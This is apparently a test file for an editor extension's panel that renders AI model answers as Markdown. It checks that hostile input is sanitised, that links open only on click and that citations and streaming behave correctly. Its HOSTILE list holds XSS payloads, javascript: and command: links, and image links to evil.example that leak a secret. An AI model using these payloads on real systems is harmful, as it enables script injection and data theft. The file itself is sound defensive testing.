import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { AnswerView } from '../src/panel/answerView';
import { listenForActions } from '../src/panel/actions';
import type { FromPanel } from '../src/shared/messages';
import type { Citation } from '../src/shared/protocol';
import { cite, openPage, strings } from './page';

function render(text: string, citations: readonly Citation[] = []): HTMLElement {
  openPage();
  const view = new AnswerView();
  view.update(text, { strings, citations });
  document.body.append(view.element);
  return view.element;
}

function click(root: HTMLElement, selector: string): FromPanel[] {
  const sent: FromPanel[] = [];
  listenForActions(root, (message) => sent.push(message));
  root.querySelector<HTMLElement>(selector)?.click();
  return sent;
}

/** What people have tried on panels of assistants, and what the Markdown parser itself offers. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<style onload=alert(1)></style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x"></object><embed src="//evil.example/x">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[run](command:workbench.action.terminal.new)',
  '[run](command:glossator.setApiKey?%5B%22x%22%5D)',
  '[open](vscode://file/etc/passwd)',
  '[open](vscode-insiders://x)',
  '<command:workbench.action.files.newUntitledFile>',
  '<javascript:alert(1)>',
  '[x](//evil.example/share)',
  '[x](\\\\evil.example\\share)',
  '[x](smb://evil.example/share)',
  '![x](https://evil.example/?q=SECRET)',
  '![x](//evil.example/x.png)',
  '![x](http://evil.example/x.png "title")',
  '![x][1]\n\n[1]: https://evil.example/?q=SECRET',
  '[![x](https://evil.example/pixel.png)](https://evil.example/)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](file:///etc/passwd)',
  '![](javascript:alert(1))',
  '[x](https://evil.example "onmouseover=alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<script>alert(1)</script>\n<img src=https://evil.example/x>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](https://evil.example/x) |',
  '# <img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\u202e<img src=x onerror=alert(1)>',
  '[a](<javascript:alert(1)>)',
  '- [ ] <input type=checkbox onclick=alert(1)>',
  '<!-- --><script>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
];

const ELEMENTS = new Set(
  (
    'a,b,blockquote,br,button,code,div,em,figcaption,figure,h1,h2,h3,h4,h5,h6,hr,li,ol,p,path,' +
    'pre,s,span,strong,svg,table,tbody,td,th,thead,tr,ul'
  ).split(','),
);
const ATTRIBUTES = new Set(
  'aria-disabled,aria-hidden,aria-label,class,d,data-host,role,start,tabindex,title,type,viewBox'.split(
    ',',
  ),
);

describe('Markdown of a model', () => {
  for (const text of HOSTILE) {
    it(`makes only known elements of ${JSON.stringify(text)}`, () => {
      const root = render(text);

      for (const element of root.querySelectorAll('*')) {
        assert.ok(ELEMENTS.has(element.localName), `element ${element.outerHTML}`);
        for (const { name } of element.attributes) {
          assert.ok(ATTRIBUTES.has(name), `attribute ${name} in ${element.outerHTML}`);
        }
      }
    });
  }

  it('makes only known elements of every pair of hostile texts', () => {
    for (const first of HOSTILE) {
      const root = render(HOSTILE.map((second) => `${first} ${second}`).join('\n\n'));
      const unknown = [...root.querySelectorAll('*')].filter((e) => !ELEMENTS.has(e.localName));
      assert.deepEqual(unknown, []);
    }
  });

  it('has no address that anything could load or follow by itself', () => {
    const root = render(HOSTILE.join('\n\n'));

    assert.equal(root.querySelector('[href], [src], [style], [srcset], [action]'), null);
  });

  it('keeps the label of a link it drops', () => {
    const root = render('[run this](command:workbench.action.quit)');

    assert.equal(root.textContent, 'run this');
    assert.deepEqual(click(root, 'span'), []);
  });

  it('shows the host beside a link and opens it only after a click', () => {
    const root = render('[the docs](https://evil.example/path?q=1)');

    const link = root.querySelector<HTMLElement>('.web-link');
    assert.equal(link?.dataset['host'], 'evil.example');
    assert.match(link.title, /https:\/\/evil\.example\/path\?q=1/);
    assert.deepEqual(click(root, '.web-link'), [
      { type: 'openLink', url: 'https://evil.example/path?q=1' },
    ]);
  });

  it('names a picture instead of loading it', () => {
    const root = render('![a chart](https://evil.example/?q=SECRET)');

    assert.match(root.textContent, /a chart \(picture, not loaded\)/);
    assert.equal(root.querySelector('img'), null);
  });

  it('opens the line that a link, a piece of code or a sentence names', () => {
    const place = (path: string, firstLine: number, lastLine = firstLine) => [
      { type: 'openPlace', place: { uri: null, path, firstLine, lastLine } },
    ];

    assert.deepEqual(click(render('[add](src/a.py#L12-L20)'), 'a'), place('src/a.py', 12, 20));
    assert.deepEqual(click(render('see `src/a.py:12`'), '.place'), place('src/a.py', 12));
    assert.deepEqual(click(render('见src/a.py:12-14。'), '.place'), place('src/a.py', 12, 14));
    assert.deepEqual(
      click(render('[约定](knowledge/约定.md)'), 'a'),
      place('knowledge/约定.md', 1),
    );
  });

  it('does not take times, versions or names for places', () => {
    const root = render('At 12:30, version 3.11:2 of `os.path` runs `a:b` on http://localhost:80');

    assert.equal(root.querySelector('.place'), null);
  });

  it('shows the verdict of a citation where the answer cites', () => {
    const citations = [cite('src/a.py:3'), cite('src/b.py:9', 'moved'), cite('c.py:1', 'missing')];
    const root = render('See src/a.py:3, `src/b.py:9` and c.py:1.', citations);

    const chips = [...root.querySelectorAll('.citation')];
    assert.deepEqual(
      chips.map((chip) => [chip.textContent, chip.className]),
      [
        ['src/a.py:3', 'citation exact'],
        ['src/b.py:9', 'citation moved'],
        ['c.py:1', 'citation missing'],
      ],
    );
    assert.match(chips[1]?.getAttribute('aria-label') ?? '', /moved/);
    assert.match(chips[2]?.getAttribute('title') ?? '', /there is no such place/);
    assert.deepEqual(click(root, '.missing'), []);
  });

  it('says why a citation does not hold', () => {
    const citations = [
      { ...cite('a.py:99', 'missing'), reason: 'the file has 41 lines' },
      { ...cite('b.py:3', 'moved'), reason: 'the file changed since it was read' },
    ];
    const root = render('See a.py:99 and b.py:3.', citations);

    const titles = [...root.querySelectorAll('.citation')].map((each) =>
      each.getAttribute('title'),
    );
    assert.deepEqual(titles, [
      'a.py:99: missing: the file has 41 lines',
      'b.py:3: moved: the file changed since it was read',
    ]);
  });

  it('writes out what in the name of a file would not be seen', () => {
    const root = render('See a\u202eb.py:3.', [cite('a\u202eb.py:3')]);

    assert.equal(root.querySelector('.citation')?.textContent, 'a\\u{202e}b.py:3');
  });

  it('prefers the longer of two citations that begin alike', () => {
    const root = render('See src/a.py:12.', [cite('src/a.py:1'), cite('src/a.py:12')]);

    assert.equal(root.querySelector('.citation')?.textContent, 'src/a.py:12');
  });

  it('does not repeat the title of the page as its first heading', () => {
    openPage();
    const view = new AnswerView();

    view.update('## `Cart.total`\n\nText', { strings, citations: [], title: 'Cart.total' });
    assert.equal(view.element.textContent, 'Text');
    view.update('## Other\n\nText', { strings, citations: [], title: 'Cart.total' });
    assert.equal(view.element.textContent, 'OtherText');
  });

  it('builds tables, lists, headings and code as such', () => {
    const root = render(
      '# T\n\n1. one\n2. two\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```python\ndef f(): pass\n```',
    );

    assert.equal(root.querySelector('h1')?.textContent, 'T');
    assert.equal(root.querySelectorAll('ol > li').length, 2);
    assert.equal(root.querySelector('td.align-right')?.textContent, '2');
    assert.equal(root.querySelector('pre code')?.textContent, 'def f(): pass');
    assert.equal(root.querySelector('.hljs-keyword')?.textContent, 'def');
    const copy = '.code [aria-label=Copy]';
    assert.deepEqual(click(root, copy), [{ type: 'copy', text: 'def f(): pass' }]);
  });

  it('offers to put code into the file that is named above it', () => {
    const root = render('In shop/cart.py:18 write:\n\n```python\nx = 1\n```');

    assert.equal(root.querySelector('.code-name')?.textContent, 'python · shop/cart.py');
    const target = { uri: null, path: 'shop/cart.py', firstLine: 18, lastLine: 18 };
    const apply = '.code [aria-label="Apply to a file…"]';
    assert.deepEqual(click(root, apply), [{ type: 'applyCode', text: 'x = 1', target }]);
    const insert = '.code [aria-label="Insert at cursor"]';
    assert.deepEqual(click(root, insert), [{ type: 'insertCode', text: 'x = 1' }]);
  });

  it('offers output for copying only', () => {
    const root = render('```console\n$ pytest\n```');

    assert.equal(root.querySelectorAll('.code button').length, 1);
  });
});

describe('streaming', () => {
  it('leaves finished blocks alone while the last one grows', () => {
    openPage();
    const view = new AnswerView();
    const context = { strings, citations: [] };
    view.update('First.\n\nSec', context);
    const first = view.element.firstChild;

    view.update('First.\n\nSecond and more.', context);

    assert.equal(view.element.firstChild, first);
    assert.equal(view.element.lastChild?.textContent, 'Second and more.');
  });

  it('ends as if the whole text had come at once, wherever it is cut', () => {
    const text =
      '# 标题\n\nSee [a][1] and `b`.\n\n- one\n- two\n\n```python\nx = 1\n```\n\n' +
      '| a |\n|---|\n| 1 |\n\n[1]: src/a.py:3\n';
    const whole = render(text).innerHTML;
    for (const size of [1, 2, 3, 7]) {
      const view = new AnswerView();
      for (let end = size; end < text.length + size; end += size) {
        view.update(text.slice(0, end), { strings, citations: [] });
      }
      assert.equal(view.element.innerHTML, whole);
    }
  });

  it('draws 1,000 deltas of a long answer without building it anew each time', () => {
    openPage();
    const view = new AnswerView();
    const context = { strings, citations: [] };
    let text = '';
    let kept = 0;
    for (let i = 0; i < 1000; i += 1) {
      const before = view.element.firstChild;
      text += i % 10 === 9 ? `word ${i}.\n\n` : `word ${i} `;
      view.update(text, context);
      kept += before && before === view.element.firstChild ? 1 : 0;
    }

    assert.equal(view.element.childNodes.length, 100);
    assert.ok(kept > 985, `the first paragraph was kept ${kept} times`);
  });
});

describe('parsing what only grows', () => {
  const ANSWERS = [
    'First.\n\n- a\n- b\n\n  more of b\n\n1. one\n\n2. two\n\nEnd.\n',
    'Title\n=====\n\ntext\n---\n\n> quote\nlazy\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nafter\n',
    'See [x].\n\nmore\n\nand more\n\n[x]: src/a.py#L3\n\nlast\n',
    '```py\na = 1\n\nb = 2\n```\n\n    code\n\n~~~\nopen\n\nstill\n~~~\n\n***\n\n* x\n\n* y\n',
    'a.py:1\n\nIn `src/b.py`:\n\n```py\nx\n```\n\n* * *\n\n1) a\n\n   b\n\n2) c\n\ntext  \nbreak\n',
  ];

  for (const [index, answer] of ANSWERS.entries()) {
    it(`gives what parsing the whole gives, character by character (${index + 1})`, () => {
      openPage();
      const context = { strings, citations: [] };
      const growing = new AnswerView();
      for (let end = 1; end <= answer.length; end += 1) {
        const text = answer.slice(0, end);
        growing.update(text, context);
        const whole = new AnswerView();
        whole.update(text, context);
        assert.equal(growing.element.outerHTML, whole.element.outerHTML, JSON.stringify(text));
      }
    });
  }
});
